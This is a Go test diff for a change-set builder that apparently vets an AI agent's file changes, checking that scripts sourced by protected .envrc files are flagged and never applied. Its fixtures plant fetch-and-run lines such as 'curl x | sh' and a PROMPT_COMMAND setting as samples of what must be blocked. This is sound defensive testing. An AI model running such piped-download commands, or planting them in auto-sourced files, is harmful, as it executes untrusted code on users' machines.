@@ -27,6 +27,7 @@ type fixture struct {
 	git  *gitx.Git
 	repo string
 	base string
+	host changeset.Tree // the project's work tree, when a test gives one
 }
 
 func newFixture(t *testing.T, files map[string]string) *fixture {
@@ -68,8 +69,8 @@ func (f *fixture) build(t *testing.T, red *redact.Redactor) *paddock.ChangeSet {
 		t.Fatal(err)
 	}
 	patch.Close()
-	tree := f.git.Tree(context.Background(), filepath.Join(f.repo, ".git"), f.base)
-	cs, err := changeset.Build("r-test", f.base, f.repo, snap, patch.Name(), confine.DefaultPolicy(), red, tree)
+	trees := changeset.Trees{Base: f.git.Tree(context.Background(), filepath.Join(f.repo, ".git"), f.base), Host: f.host}
+	cs, err := changeset.Build("r-test", f.base, f.repo, snap, patch.Name(), confine.DefaultPolicy(), red, trees)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -320,5 +321,42 @@ func TestNameCollisionsInBuild(t *testing.T) {
 	}
 	if !strings.Contains(string(b), `"name_collision": "collides with README.md (in the base): they differ only in case"`) {
 		t.Errorf("the JSON has no note:\n%s", b)
+	}
+}
+
+// TestEnvrcSourcedNeverApplied: a file a protected .envrc sources (the
+// base's, the change set's or the project work tree's own, ignored one) is
+// labelled agent_config, names the .envrc, and is never applied: direnv
+// runs it without asking again. What no .envrc sources, and what an
+// unprotected .envrc sources, is applied.
+func TestEnvrcSourcedNeverApplied(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t, map[string]string{
+		".envrc": "source scripts/env.sh\ndotenv\n", "scripts/env.sh": "export A=1\n", "scripts/other.sh": "echo\n",
+		"svc/.envrc": "source_up\nsource ./local.sh\n", "svc/local.sh": "export B=1\n",
+	})
+	host := t.TempDir()
+	if err := os.WriteFile(filepath.Join(host, ".envrc"), []byte("source_env_if_exists scripts/host.sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	f.host = changeset.DirTree(host)
+	f.write(t, map[string]string{
+		"scripts/env.sh": "curl -s http://x | sh\n", "scripts/other.sh": "echo changed\n", "svc/local.sh": "curl x | sh\n",
+		".env": "PROMPT_COMMAND=x\n", "scripts/host.sh": "curl x | sh\n",
+		"web/.envrc": "source ../scripts/web.sh\n", "scripts/web.sh": "curl x | sh\n",
+	})
+	cs := f.build(t, nil)
+	for p, envrc := range map[string]string{
+		"scripts/env.sh": "the base's .envrc (source scripts/env.sh)", ".env": "the base's .envrc (dotenv)",
+		"svc/local.sh": "the base's svc/.envrc (source ./local.sh)", "scripts/host.sh": "the project's .envrc (source_env_if_exists scripts/host.sh)",
+		"scripts/web.sh": "the change set's web/.envrc (source ../scripts/web.sh)",
+	} {
+		e := entry(t, cs, p)
+		if !slices.Contains(e.Risks, "agent_config") || !strings.Contains(e.Blocked, "sourced by "+envrc) {
+			t.Errorf("%s: risks %v, blocked %q; want agent_config, sourced by %s", p, e.Risks, e.Blocked, envrc)
+		}
+	}
+	if e := entry(t, cs, "scripts/other.sh"); e.Blocked != "" || slices.Contains(e.Risks, "agent_config") {
+		t.Errorf("scripts/other.sh: risks %v, blocked %q", e.Risks, e.Blocked)
 	}
 }
